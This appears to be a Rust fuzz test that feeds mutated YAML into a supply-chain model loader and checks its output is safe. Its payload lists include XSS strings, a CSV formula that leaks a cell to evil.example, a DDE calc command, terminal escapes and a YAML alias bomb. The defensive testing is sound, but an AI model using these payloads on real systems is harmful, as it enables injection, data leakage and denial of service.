//! Mutated copies of the shipped model, from a fixed seed: the loader never panics, answers
//! within the time budget, places at least one problem when it refuses, and a model it accepts
//! never shows a character that could act on a terminal, keeps only web addresses as URLs,
//! and never writes live markup into Markdown nor a formula into a CSV cell.
//!
//! `RECHAIN_FUZZ_CASES` sets the number of cases (default 100, about ten seconds in a debug build);
//! `RECHAIN_FUZZ_SEED` starts from another seed.

use std::fmt::Write;
use std::panic::{AssertUnwindSafe, catch_unwind};
use std::time::{Duration, Instant};

use rechain::model::load::{EMBEDDED_YAML, load_text};
use rechain::model::{EntityRef, Origin};

use crate::common::env_number;
use crate::common::rng::Rng;
use crate::injection::{assert_inert_markdown, assert_no_formula_cells};

const NASTY: &[&str] = &[
    "\0",
    "\u{1b}",
    "\u{7}",
    "\u{7f}",
    "\r",
    "\u{85}",
    "\u{9b}",
    "\u{2028}",
    "\u{2029}",
    "\u{202E}",
    "\u{2066}",
    "\u{200B}",
    "\u{FEFF}",
    "\t",
    "\\e]0;x\\a",
    "\\u202e",
    "\"",
    "'",
    "#",
    ": ",
    "- ",
    "{",
    "[",
    "]",
    "}",
    "&a ",
    "*a",
    "!!int ",
    "!!binary ",
    "? ",
    "|",
    ">",
    "---\n",
    "%YAML 1.1\n",
];

/// Pieces of source URLs: schemes, hosts and tails, web addresses and hostile ones.
const URL_SCHEMES: &[&str] = &[
    "https://",
    "http://",
    "javascript:",
    "data:text/html,",
    "HTTPS://",
    "",
];
const URL_HOSTS: &[&str] = &[
    "ok.example",
    "x.example:8080",
    "",
    "a b.example",
    "user@evil.example",
    "[::1]",
    "-x.example",
];
const URL_TAILS: &[&str] = &[
    "/a",
    "?q=1&r=2",
    "#f",
    "/p_(x)",
    "> [click me](javascript:alert(1)) <img src=x onerror=alert(document.domain)>",
    "\"><script>alert(1)</script>",
    "`x`",
    " ",
    "\t",
    "<",
    "%3C",
    "\u{2028}",
];

/// Names that are markup in Markdown or HTML, or a formula in a spreadsheet.
const HOSTILE_NAMES: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd",
    "-2+3",
    " =1+1",
    "\t=1",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "a & b &amp;",
    "# heading",
    "> quote",
    "| cell |",
    "*em* _em_ `code`",
    "<https://ok.example/>",
];

/// A source URL made of random pieces: often a web address, often not.
fn url(rng: &mut Rng) -> String {
    let mut url = format!("{}{}", rng.pick(URL_SCHEMES), rng.pick(URL_HOSTS));
    for _ in 0..rng.below(3) {
        let tail = *rng.pick(URL_TAILS);
        url.push_str(tail);
    }
    url
}

/// The value of one random `key: ` line (`url: ` or a name) replaced by `value`, quoted.
fn replace_value(rng: &mut Rng, bytes: &mut Vec<u8>, key: &str, value: &str) {
    let text = String::from_utf8_lossy(bytes).into_owned();
    let lines: Vec<&str> = text.lines().collect();
    let found: Vec<usize> = (0..lines.len())
        .filter(|&i| lines[i].trim_start().starts_with(key))
        .collect();
    if found.is_empty() {
        return;
    }
    let at = *rng.pick(&found);
    let indent = lines[at].len() - lines[at].trim_start().len();
    let quoted = serde_json::to_string(value).unwrap();
    let mut out = String::with_capacity(text.len() + quoted.len());
    for (i, line) in lines.iter().enumerate() {
        if i == at {
            let _ = writeln!(out, "{}{key}{quoted}", &line[..indent]);
        } else {
            out.push_str(line);
            out.push('\n');
        }
    }
    *bytes = out.into_bytes();
}

/// One random change to the text, as bytes (some changes break UTF-8 on purpose).
#[allow(
    clippy::too_many_lines,
    reason = "one arm per kind of damage, read best as one list"
)]
fn mutate(rng: &mut Rng, bytes: &mut Vec<u8>) {
    let len = bytes.len();
    let line_starts = || {
        let mut starts = vec![0];
        starts.extend(
            bytes
                .iter()
                .enumerate()
                .filter(|&(_, &b)| b == b'\n')
                .map(|(i, _)| i + 1),
        );
        starts
    };
    match rng.below(15) {
        // Byte flips.
        0 => {
            for _ in 0..=rng.below(4) {
                if len > 0 {
                    let at = rng.below(len);
                    bytes[at] ^= 1 << rng.below(8);
                }
            }
        }
        // Truncation.
        1 => bytes.truncate(rng.below(len + 1)),
        // A line deleted or duplicated.
        2 | 3 => {
            let starts = line_starts();
            let i = rng.below(starts.len());
            let start = starts[i];
            let end = starts.get(i + 1).copied().unwrap_or(len);
            let line: Vec<u8> = bytes[start..end].to_vec();
            if rng.below(2) == 0 {
                bytes.drain(start..end);
            } else {
                bytes.splice(start..start, line);
            }
        }
        // Indentation changed.
        4 => {
            let starts = line_starts();
            let start = *rng.pick(&starts);
            match rng.below(3) {
                0 => {
                    bytes.splice(start..start, b"  ".iter().copied());
                }
                1 => {
                    if bytes.get(start) == Some(&b' ') {
                        bytes.remove(start);
                    }
                }
                _ => {
                    bytes.insert(start, b'\t');
                }
            }
        }
        // Two ids swapped.
        5 => {
            let text = String::from_utf8_lossy(bytes).into_owned();
            let ids: Vec<&str> = text
                .lines()
                .filter_map(|l| l.trim_start().strip_prefix("- id: "))
                .collect();
            if ids.len() >= 2 {
                let (a, b) = (*rng.pick(&ids), *rng.pick(&ids));
                let swapped = text
                    .replace(&format!("id: {a}\n"), "id: \u{0}SWAP\n")
                    .replace(&format!("id: {b}\n"), &format!("id: {a}\n"))
                    .replace("id: \u{0}SWAP\n", &format!("id: {b}\n"));
                *bytes = swapped.into_bytes();
            }
        }
        // An anchor and aliases to it, or an alias bomb.
        6 => {
            let text = String::from_utf8_lossy(bytes).into_owned();
            let text = if rng.below(2) == 0 {
                text.replacen("name: ", "name: &n ", 1)
                    .replace("summary: ", "summary: *n # ")
            } else {
                let mut bomb = String::from("x0: &x0 [a, a, a, a, a, a, a, a, a, a]\n");
                for i in 1..9 {
                    let refs = vec![format!("*x{}", i - 1); 10].join(", ");
                    let _ = writeln!(bomb, "x{i}: &x{i} [{refs}]");
                }
                text.replacen("meta:", &format!("{bomb}meta:"), 1)
            };
            *bytes = text.into_bytes();
        }
        // A huge scalar.
        7 => {
            let text = String::from_utf8_lossy(bytes).into_owned();
            let huge = "w".repeat(100_000 + rng.below(400_000));
            let key = *rng.pick(&["name: ", "hq: ", "source: ", "id: ", "country: "]);
            *bytes = text.replacen(key, &format!("{key}{huge} "), 1).into_bytes();
        }
        // Control, bidi and YAML-significant characters anywhere.
        8 | 9 => {
            for _ in 0..=rng.below(3) {
                let at = rng.below(bytes.len() + 1);
                let nasty = rng.pick(NASTY).as_bytes();
                bytes.splice(at..at, nasty.iter().copied());
            }
        }
        // CRLF line ends.
        10 => {
            let text = String::from_utf8_lossy(bytes).replace('\n', "\r\n");
            *bytes = text.into_bytes();
        }
        // A byte-order mark, or a NUL.
        11 => {
            if rng.below(2) == 0 {
                bytes.splice(0..0, "\u{feff}".bytes());
            } else {
                let at = rng.below(bytes.len() + 1);
                bytes.insert(at, 0);
            }
        }
        // A source URL, valid or hostile.
        13 => {
            let url = url(rng);
            replace_value(rng, bytes, "url: ", &url);
        }
        // A name that is markup or a formula.
        14 => {
            let name = *rng.pick(HOSTILE_NAMES);
            replace_value(rng, bytes, "name: ", name);
        }
        // A line of another line's text at a random place.
        _ => {
            let starts = line_starts();
            let from = *rng.pick(&starts);
            let end = bytes[from..]
                .iter()
                .position(|&b| b == b'\n')
                .map_or(bytes.len(), |e| from + e + 1);
            let line: Vec<u8> = bytes[from..end].to_vec();
            let to = *rng.pick(&starts);
            bytes.splice(to..to, line);
        }
    }
}

/// Every entity of a loaded model, for the cards.
fn entities(m: &rechain::model::Model) -> Vec<EntityRef> {
    let mut all = Vec::new();
    all.extend(m.firm_ids().map(EntityRef::Firm));
    all.extend(m.facility_ids().map(EntityRef::Facility));
    all.extend(m.stage_ids().map(EntityRef::Stage));
    all.extend(m.country_ids().map(EntityRef::Country));
    all.extend(m.element_ids().map(EntityRef::Element));
    all.extend(m.source_ids().map(EntityRef::Source));
    all.extend(m.event_ids().map(EntityRef::Event));
    all.extend(m.link_ids().map(EntityRef::Link));
    all
}

#[test]
fn mutated_models_never_panic_hang_or_leak_controls() {
    let cases = env_number("RECHAIN_FUZZ_CASES", 100);
    let seed = env_number("RECHAIN_FUZZ_SEED", 0x5EED_C4A1_2026);
    // The budget is 1 s per MB on one core for an optimised build; a debug build gets ten times.
    let slack = if cfg!(debug_assertions) { 10.0 } else { 1.0 };
    let started = Instant::now();
    let (mut accepted, mut refused, mut slowest) = (0u64, 0u64, Duration::ZERO);
    for case in 0..cases {
        let mut rng = Rng(seed ^ (case.wrapping_add(1)).wrapping_mul(0x9E37_79B9_7F4A_7C15));
        let mut bytes = EMBEDDED_YAML.as_bytes().to_vec();
        for _ in 0..=rng.below(3) {
            mutate(&mut rng, &mut bytes);
        }
        let text = String::from_utf8_lossy(&bytes);
        let budget = Duration::from_secs_f64(slack * (0.5 + text.len() as f64 / 1_000_000.0));
        let begun = Instant::now();
        let result = catch_unwind(AssertUnwindSafe(|| {
            load_text(&text, Origin::File("fuzz.yaml".into()))
        }));
        let took = begun.elapsed();
        slowest = slowest.max(took);
        let Ok(result) = result else {
            panic!("case {case} (seed {seed:#x}) panicked");
        };
        assert!(
            took <= budget,
            "case {case} (seed {seed:#x}) took {took:?} for {} bytes",
            text.len()
        );
        match result {
            Err(e) => {
                refused += 1;
                assert!(
                    e.problems.iter().any(|p| p.line.is_some()),
                    "case {case} (seed {seed:#x}): no problem has a position:\n{e}"
                );
                let shown = e.to_string();
                assert!(
                    !shown
                        .chars()
                        .any(|c| c != '\n' && rechain::text::is_unsafe(c)),
                    "case {case} (seed {seed:#x}): raw control in {shown:?}"
                );
            }
            Ok(model) => {
                accepted += 1;
                for source in model.sources() {
                    let url = source.url.as_deref().unwrap_or("https://none.example");
                    assert!(
                        rechain::model::url::is_web_url(url),
                        "case {case} (seed {seed:#x}): the URL {url:?} was accepted"
                    );
                }
                let every_plant: Vec<_> = model.facility_ids().collect();
                for stage in model.stage_ids() {
                    let csv = rechain::present::plants::plants_csv(&model, &every_plant, stage, 25);
                    assert_no_formula_cells(&format!("case {case} (seed {seed:#x})"), &csv);
                }
                // Only a few accepted models are rendered in full: cards are the costly part.
                if accepted % 8 == 1 {
                    for entity in entities(&model) {
                        let card = rechain::present::card::card(&model, entity);
                        let plain = card.to_plain_text();
                        assert!(
                            !plain.chars().any(rechain::text::is_unsafe),
                            "case {case} (seed {seed:#x}): {entity:?} shows {plain:?}"
                        );
                        assert_inert_markdown(
                            &format!("case {case} (seed {seed:#x}): {entity:?}"),
                            &card.to_markdown_with_sources(&model),
                        );
                    }
                }
                let json = serde_json::to_string(model.file()).unwrap();
                assert!(
                    !json.chars().any(rechain::text::is_unsafe),
                    "case {case} (seed {seed:#x}): export holds a raw control"
                );
            }
        }
    }
    eprintln!(
        "{cases} cases: {accepted} accepted, {refused} refused, slowest {slowest:?}, all in {:?}",
        started.elapsed()
    );
}
